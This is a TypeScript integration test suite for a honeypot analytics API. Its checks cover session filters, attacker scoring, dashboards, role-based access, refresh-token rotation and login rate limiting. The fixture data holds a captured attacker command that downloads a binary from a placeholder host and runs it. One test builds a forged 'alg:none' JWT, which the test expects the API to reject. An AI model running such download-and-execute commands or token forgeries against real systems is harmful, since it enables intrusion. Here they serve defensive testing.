import {
  type Attacker,
  DashboardStats,
  type Event,
  Health,
  Session,
  SessionDetail,
  Timeline,
  TopAttackers,
  User,
} from '@eviltwin/contract'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
import { ADMIN, SENSOR_KEY, startTestPlatform, type TestPlatform } from './testing/test-platform.js'
import { until } from './testing/until.js'

const NOW = Date.parse('2026-03-22T12:34:30.000Z')
const at = (minutesAgo: number) => new Date(NOW - minutesAgo * 60_000).toISOString()

/** Sessions of three attackers on two sensors within and before the last day. */
const CAPTURE = [
  {
    src_ip: '203.0.113.7',
    session: 'a',
    sensor: 'cowrie-1',
    eventid: 'cowrie.session.connect',
    protocol: 'ssh',
    timestamp: at(10),
  },
  {
    src_ip: '203.0.113.7',
    session: 'a',
    sensor: 'cowrie-1',
    eventid: 'cowrie.login.success',
    username: 'root',
    password: 'x',
    timestamp: at(9),
  },
  {
    src_ip: '203.0.113.7',
    session: 'a',
    sensor: 'cowrie-1',
    eventid: 'cowrie.command.input',
    input: 'wget http://192.0.2.1/100%_x; chmod +x x; ./x',
    timestamp: at(8),
  },
  {
    src_ip: '203.0.113.7',
    session: 'a',
    sensor: 'cowrie-1',
    eventid: 'cowrie.session.file_download',
    url: 'http://192.0.2.1/x',
    shasum: 'a'.repeat(64),
    timestamp: at(7),
  },
  {
    src_ip: '203.0.113.8',
    session: 'b',
    sensor: 'cowrie-1',
    eventid: 'cowrie.login.failed',
    protocol: 'telnet',
    username: 'a',
    password: 'b',
    timestamp: at(90),
  },
  {
    src_ip: '203.0.113.8',
    session: 'b',
    sensor: 'cowrie-1',
    eventid: 'cowrie.session.closed',
    timestamp: at(89),
  },
  {
    src_ip: '2001:db8::7',
    session: 'c',
    sensor: 'cowrie-2',
    eventid: 'cowrie.session.connect',
    protocol: 'ssh',
    timestamp: at(60 * 26),
  },
]

describe.each(inject('postgresServers'))('the API on $version', (server) => {
  let api: TestPlatform
  let admin: string
  const get = async (path: string, as = admin) => {
    const response = await api.call(path, { as })
    return { status: response.status, body: await response.json(), headers: response.headers }
  }

  beforeAll(async () => {
    api = await startTestPlatform(server, { now: () => NOW, environment: { METRICS_OPEN: 'false' } })
    admin = await api.login()
    const sent = await api.send(JSON.stringify(CAPTURE))
    expect(await sent.json()).toMatchObject({ accepted: CAPTURE.length })
  })
  afterAll(() => api.close())

  describe('sessions', () => {
    test.each([
      ['', ['a', 'b', 'c']],
      ['threat_level=low', ['a', 'b', 'c']],
      ['threat_level=medium', ['a']],
      ['threat_level=high', ['a']],
      ['src_ip=203.0.113.7', ['a']],
      ['src_ip=203.0.113.0/24', ['a', 'b']],
      ['src_ip=203.0.113.77/24', ['a', 'b']],
      ['src_ip=2001:db8::/32', ['c']],
      ['src_ip=::ffff:203.0.113.8', ['b']],
      ['sensor_id=cowrie-2', ['c']],
      ['protocol=telnet', ['b']],
      ['event_type=file_download', ['a']],
      [`from=${at(120)}&to=${at(30)}`, ['b']],
      ['q=WGET', ['a']],
      ['q=100%25_x', ['a']],
      ['q=100x', []],
      ['country=DE', []],
    ])('filtered by %s', async (query, expected) => {
      const { body } = await get(`/sessions?${query}`)
      const names: Record<string, string> = { '203.0.113.7': 'a', '203.0.113.8': 'b', '2001:db8::7': 'c' }
      expect(body.items.map((session: Session) => names[session.source_ip])).toEqual(expected)
      for (const session of body.items) expect(Session.safeParse(session).error).toBeUndefined()
    })

    test('are paged by keyset without gap or repetition, and counted on request', async () => {
      const first = (await get('/sessions?limit=2&count=true')).body
      expect(first.total).toBe(3)
      const second = (await get(`/sessions?limit=2&cursor=${first.next_cursor}`)).body
      expect(second.total).toBeUndefined()
      expect(second.next_cursor).toBeNull()
      const ids = [...first.items, ...second.items].map(({ id }) => id)
      expect(new Set(ids).size).toBe(3)
    })

    test('that go on now are those that are counted as active', async () => {
      const { items } = (await get('/sessions?active=true')).body
      expect(items.length).toBeGreaterThan(0)
      expect((await get('/dashboard/stats')).body.active_sessions).toBe(items.length)
      for (const { ended_at } of items) expect(ended_at).toBeNull()
    })

    test('tell everything about one', async () => {
      const [{ id }] = (await get('/sessions?src_ip=203.0.113.7')).body.items
      const { body } = await get(`/sessions/${id}`)
      expect(SessionDetail.safeParse(body).error).toBeUndefined()
      expect(body).toMatchObject({
        event_count: 4,
        credentials: [{ username: 'root', success: true }],
        commands: [{ command: 'wget http://192.0.2.1/100%_x; chmod +x x; ./x' }],
        files: [{ file_sha256: 'a'.repeat(64) }],
        score: { scorer: expect.stringMatching(/^model-[0-9a-f]{12}$/) },
      })
      expect(body.techniques.map((technique: { id: string }) => technique.id)).toContain('T1105')
      expect(body.events.map((event: Event) => event.action)).toEqual(
        CAPTURE.slice(0, 4).map(({ eventid }) => eventid),
      )
      const page = (await get(`/sessions/${id}?limit=3`)).body
      const rest = (await get(`/sessions/${id}?limit=3&cursor=${page.next_cursor}`)).body
      expect([...page.events, ...rest.events]).toEqual(body.events)
    })
  })

  test('attackers are listed, profiled and scored', async () => {
    expect((await get('/attackers?from=2030-01-01T00:00:00Z')).body.items).toEqual([])
    expect((await get('/attackers?from=2000-01-01T00:00:00Z')).body.items.length).toBeGreaterThan(1)
    const { body } = await get('/attackers?sort=event_count&count=true')
    expect(body.total).toBe(3)
    expect(body.items.map((attacker: Attacker) => [attacker.source_ip, attacker.event_count])).toEqual([
      ['203.0.113.7', 4],
      ['203.0.113.8', 2],
      ['2001:db8::7', 1],
    ])
    const sorted = async (sort: string) => {
      const ips: string[] = []
      for (let cursor = ''; ; ) {
        const page = (await get(`/attackers?limit=1&sort=${sort}${cursor}`)).body
        ips.push(...page.items.map((attacker: Attacker) => attacker.source_ip))
        if (page.next_cursor === null) return ips
        cursor = `&cursor=${page.next_cursor}`
      }
    }
    for (const sort of ['last_seen_at', 'event_count', 'threat_score'])
      expect(new Set(await sorted(sort)).size).toBe(3)
    expect((await get('/attackers/2001:DB8:0::7')).body).toMatchObject({
      source_ip: '2001:db8::7',
      sensors: [{ sensor_id: 'cowrie-2', sessions: 1 }],
      score_history: [{ threat_level: 'low' }],
    })
    expect((await get('/score/203.0.113.7')).body).toMatchObject({ threat_level: 'high' })
    expect((await get('/score/192.0.2.99')).status).toBe(404)
    expect((await get('/score/not-an-ip')).status).toBe(422)
  })

  test('the dashboard counts the last day by when things happened', async () => {
    const stats = (await get('/dashboard/stats')).body
    expect(DashboardStats.safeParse(stats).error).toBeUndefined()
    expect(stats).toMatchObject({
      total_events: 6,
      unique_attackers: 2,
      active_sessions: 1,
      total_sessions: 2,
      sessions_by_level: { low: 1, medium: 0, high: 1, critical: 0 },
      all_time: { events: 7, sessions: 3, attackers: 3 },
    })
    const timeline = (await get('/dashboard/timeline?hours=24')).body
    expect(Timeline.safeParse(timeline).error).toBeUndefined()
    expect(timeline.buckets).toHaveLength(24)
    expect(timeline.buckets.at(-1)).toEqual({
      at: '2026-03-22T12:00:00.000000Z',
      events: 4,
      low: 0,
      medium: 0,
      high: 1,
      critical: 0,
    })
    expect(timeline.buckets.at(-2)).toMatchObject({ events: 2, low: 1 })
    expect((await get('/dashboard/timeline?hours=2&interval=minute')).body.buckets).toHaveLength(120)
    const top = (await get('/dashboard/top-attackers?limit=1')).body
    expect(TopAttackers.safeParse(top).error).toBeUndefined()
    expect(top.items).toMatchObject([{ source_ip: '203.0.113.7', events: 4 }])
  })

  test('health says that the database answers', async () => {
    // What earlier tests escalated may still wait for the alert manager.
    const { body, status } = await until(async () => {
      const answer = await get('/health', '')
      return (answer.body as { alert_queue_depth: number }).alert_queue_depth === 0 && answer
    })
    expect(status).toBe(200)
    expect(Health.safeParse(body).error).toBeUndefined()
    expect(body).toMatchObject({ status: 'ok', database: true, alert_queue_depth: 0, model_loaded: true })
    expect((await get('/health/live', '')).status).toBe(200)
    expect((await get('/health/ready', '')).status).toBe(200)
  })

  test('request ids and traces are taken over when they are fit to be, and returned', async () => {
    const trace = '4bf92f3577b34da6a3ce929d0e0e4736'
    const good = await api.call('/health/live', {
      headers: { 'x-request-id': 'abc-1', traceparent: `00-${trace}-00f067aa0ba902b7-01` },
    })
    expect(good.headers.get('x-request-id')).toBe('abc-1')
    expect(good.headers.get('traceparent')).toMatch(
      new RegExp(`^00-${trace}-(?!00f067aa0ba902b7)[0-9a-f]{16}-01$`),
    )
    const bad = await api.call('/nowhere', { headers: { 'x-request-id': 'a b"c', traceparent: '00-zz' } })
    expect(bad.headers.get('x-request-id')).toMatch(/^[0-9a-f]{8}$/)
    expect(await bad.json()).toMatchObject({ status: 404, request_id: bad.headers.get('x-request-id') })
  })

  test('mistakes are explained as problem+json with pointers', async () => {
    const { status, body, headers } = await get('/sessions?limit=0&threat_level=grave')
    expect(status).toBe(422)
    expect(headers.get('content-type')).toContain('application/problem+json')
    expect(body.errors.map(({ pointer }: { pointer: string }) => pointer)).toEqual([
      '/limit',
      '/threat_level',
    ])
    for (const cursor of ['x', 'W10', Buffer.from('["a","b"]').toString('base64url')]) {
      expect((await get(`/sessions?cursor=${cursor}`)).status).toBe(422)
    }
    expect((await get('/sessions?src_ip=10.0.0.0/99')).status).toBe(422)
    expect(body.detail).toBe('Invalid query parameters `limit`, `threat_level`')
    expect(body.errors[0].message).toBe('must be at least 1')
    const notUuid = await get('/sessions/not-a-uuid')
    expect(notUuid.status).toBe(422)
    expect(notUuid.body.detail).toBe('Invalid session ID')
    expect((await get('/sessions/0b5e9c1e-7c1d-4f0e-9f6d-0d8d7f6a5b4c')).status).toBe(404)
    expect((await api.call('/users', { method: 'POST', as: admin, body: '{"username":' })).status).toBe(400)
  })

  test('the OpenAPI document names every route and who may use it', async () => {
    const { body } = await get('/openapi.json', '')
    expect(body.openapi).toBe('3.1.0')
    expect(Object.keys(body.paths)).toEqual(
      expect.arrayContaining([
        '/log',
        '/sessions',
        '/sessions/{id}',
        '/attackers/{ip}',
        '/score/{ip}',
        '/auth/login',
        '/users',
        '/api-keys',
        '/health',
      ]),
    )
    expect(body.paths['/log'].post.security).toEqual([{ accessToken: [] }, { apiKey: [] }])
    expect((await api.call('/docs')).status).toBe(200)
  })

  describe('access', () => {
    const token: Record<string, string> = {}
    beforeAll(async () => {
      for (const role of ['viewer', 'analyst']) {
        const added = await api.call('/users', {
          method: 'POST',
          as: admin,
          body: JSON.stringify({ username: role, password: 'a password for one role', role }),
        })
        expect(added.status).toBe(201)
        expect(User.safeParse(await added.json()).error).toBeUndefined()
        token[role] = await api.login(role, 'a password for one role')
      }
      token['admin'] = admin
      token['sensor key'] = SENSOR_KEY
      token['nobody'] = ''
      const created = await api.call('/api-keys', {
        method: 'POST',
        as: admin,
        body: JSON.stringify({ name: 'firewall', scopes: ['score:read'] }),
      })
      token['score key'] = (await created.json()).key
    })

    test.each([
      [
        'GET',
        '/sessions',
        { viewer: 200, analyst: 200, admin: 200, 'sensor key': 401, 'score key': 401, nobody: 401 },
      ],
      [
        'GET',
        '/score/203.0.113.7',
        { viewer: 200, admin: 200, 'sensor key': 403, 'score key': 200, nobody: 401 },
      ],
      ['GET', '/users', { viewer: 403, analyst: 403, admin: 200, 'sensor key': 401, nobody: 401 }],
      ['GET', '/api-keys', { viewer: 403, analyst: 403, admin: 200, nobody: 401 }],
      ['POST', '/quarantine/replay', { viewer: 403, analyst: 403, admin: 200, nobody: 401 }],
      ['GET', '/alerts', { viewer: 200, analyst: 200, 'sensor key': 401, nobody: 401 }],
      ['POST', '/alerts/mutes', { viewer: 403, analyst: 422, nobody: 401 }],
      ['GET', '/canary/tokens', { viewer: 403, analyst: 200, nobody: 401 }],
      ['GET', '/channels', { viewer: 403, analyst: 403, admin: 200, nobody: 401 }],
      ['POST', '/auth/ws-ticket', { viewer: 200, 'sensor key': 401, nobody: 401 }],
      ['POST', '/log', { viewer: 401, admin: 401, 'score key': 403, nobody: 401 }],
    ])('%s %s', async (method, path, expected) => {
      for (const [who, status] of Object.entries(expected)) {
        const response = await api.call(path, {
          method,
          as: token[who] ?? '',
          ...(method === 'POST' && { body: '{}' }),
        })
        expect([who, response.status]).toEqual([who, status])
      }
    })

    test('every route but the open ones refuses whoever brings nothing', async () => {
      const { paths } = (await get('/openapi.json', '')).body
      // A hook's secret is its path.
      const open = [
        '/health',
        '/health/live',
        '/health/ready',
        '/auth/login',
        '/auth/refresh',
        '/canary/hooks/{token}',
        '/runbooks/{id}',
        '/services/collector/health',
        '/services/collector/health/1.0',
        // Its credential is the token in the body.
        '/sensors/enrol',
      ]
      for (const [path, methods] of Object.entries(paths as Record<string, object>)) {
        if (open.includes(path)) continue
        for (const method of Object.keys(methods)) {
          const response = await api.call(path.replace(/\{\w+\}/g, '1'), { method: method.toUpperCase() })
          expect([method, path, response.status]).toEqual([method, path, 401])
        }
      }
    })

    test('metrics are for keys of their scope, also from this machine, and name no attacker', async () => {
      const created = await api.call('/api-keys', {
        method: 'POST',
        as: admin,
        body: JSON.stringify({ name: 'prometheus', scopes: ['metrics:read'] }),
      })
      const { key } = await created.json()
      for (const [as, status] of [
        ['', 401],
        [admin, 401],
        [token['score key'], 403],
        [SENSOR_KEY, 403],
        [key, 200],
      ]) {
        expect([status, (await api.call('/metrics', { as })).status]).toEqual([status, status])
      }
      const answer = await api.call('/metrics', { as: key })
      expect(answer.headers.get('cache-control')).toBe('no-store')
      const text = await answer.text()
      expect(text).toContain('scoring_degraded_count_total')
      for (const { src_ip } of CAPTURE) expect(text).not.toContain(src_ip)
      // Nor a gauge of them, which would only be filled a minute from now.
      expect(text).not.toMatch(
        /^\w*(attacker|source_ip|client_ip)|[{,]\w*(attacker|source_ip|client_ip)\w*=/m,
      )
    })

    test('the last administrator cannot be lost', async () => {
      const { id } = (await get('/auth/me')).body
      const change = (patch: object) =>
        api.call(`/users/${id}`, { method: 'PATCH', as: admin, body: JSON.stringify(patch) })
      expect((await change({ role: 'viewer' })).status).toBe(409)
      expect((await change({ disabled: true })).status).toBe(409)
    })

    test('a disabled user is out at once', async () => {
      const { id } = (await get('/auth/me', token['viewer'])).body
      await api.call(`/users/${id}`, { method: 'PATCH', as: admin, body: JSON.stringify({ disabled: true }) })
      expect((await get('/sessions', token['viewer'])).status).toBe(401)
    })
  })

  describe('logins', () => {
    const post = (path: string, body: object, as = '') =>
      api.call(path, { method: 'POST', as, body: JSON.stringify(body) })
    const login = async () => (await post('/auth/login', ADMIN)).json()

    test('a refresh token works once; used again it ends the whole login', async () => {
      const { refresh_token: first } = await login()
      const rotated = await (await post('/auth/refresh', { refresh_token: first })).json()
      expect((await get('/auth/me', rotated.access_token)).status).toBe(200)
      expect((await post('/auth/refresh', { refresh_token: first })).status).toBe(401)
      expect((await post('/auth/refresh', { refresh_token: rotated.refresh_token })).status).toBe(401)
      expect((await get('/auth/me', rotated.access_token)).status).toBe(401)
      expect((await post('/auth/refresh', { refresh_token: 'made up' })).status).toBe(401)
    })

    test('of two uses of one refresh token at the same time at most one succeeds', async () => {
      const { refresh_token } = await login()
      const responses = await Promise.all(
        Array.from({ length: 5 }, () => post('/auth/refresh', { refresh_token })),
      )
      expect(responses.filter(({ status }) => status === 200).length).toBeLessThanOrEqual(1)
    })

    test('logout ends it', async () => {
      const { access_token } = await login()
      expect((await api.call('/auth/logout', { method: 'POST', as: access_token })).status).toBe(204)
      expect((await get('/auth/me', access_token)).status).toBe(401)
    })

    test('tokens that are not ours are nothing', async () => {
      const { access_token } = await login()
      const [header, payload] = access_token.split('.')
      const none = `${Buffer.from('{"alg":"none","typ":"at+jwt"}').toString('base64url')}.${payload}.`
      for (const forged of [none, `${header}.${payload}.AAAA`, `${access_token}x`, 'x']) {
        expect((await get('/auth/me', forged)).status).toBe(401)
      }
    })

    test('changing the password asks for the old one and ends the other logins', async () => {
      await post('/users', { username: 'changer', password: 'the first password', role: 'viewer' }, admin)
      const mine = await api.login('changer', 'the first password')
      const other = await api.login('changer', 'the first password')
      const change = (current_password: string) =>
        post('/auth/password', { current_password, new_password: 'the second password' }, mine)
      expect((await change('wrong')).status).toBe(403)
      expect((await change('the first password')).status).toBe(204)
      expect((await get('/auth/me', mine)).status).toBe(200)
      expect((await get('/auth/me', other)).status).toBe(401)
    })

    test('logins are logged without their secrets', () => {
      const messages = api.logged
        .filter(({ logger }) => logger === 'backend.routers.auth')
        .map(({ message }) => message)
      expect(messages).toEqual(expect.arrayContaining(['Auth login success', 'Token refresh']))
      expect(JSON.stringify(api.logged)).not.toContain(ADMIN.password)
    })

    test('failures look alike, are logged, and are limited by address but lock nobody out elsewhere', async () => {
      const unknown = await post('/auth/login', { username: 'nobody', password: 'x' })
      const wrong = await post('/auth/login', { ...ADMIN, password: 'x' })
      const [first, second] = [await unknown.json(), await wrong.json()]
      expect([unknown.status, wrong.status]).toEqual([401, 401])
      expect({ ...first, request_id: '' }).toEqual({ ...second, request_id: '' })
      for (let attempt = 0; attempt < 8; attempt += 1) await post('/auth/login', { ...ADMIN, password: 'x' })
      const limited = await post('/auth/login', ADMIN)
      expect(limited.status).toBe(429)
      expect(Number(limited.headers.get('retry-after'))).toBeGreaterThan(0)
      const failed = api.logged.filter(({ message }) => message === 'Auth login failed')
      expect(failed.map(({ reason }) => reason)).toEqual(
        expect.arrayContaining(['wrong_credentials', 'rate_limited']),
      )
      expect(
        failed.every(({ level, logger }) => level === 'WARNING' && logger === 'backend.routers.auth'),
      ).toBe(true)
    })
  })
})
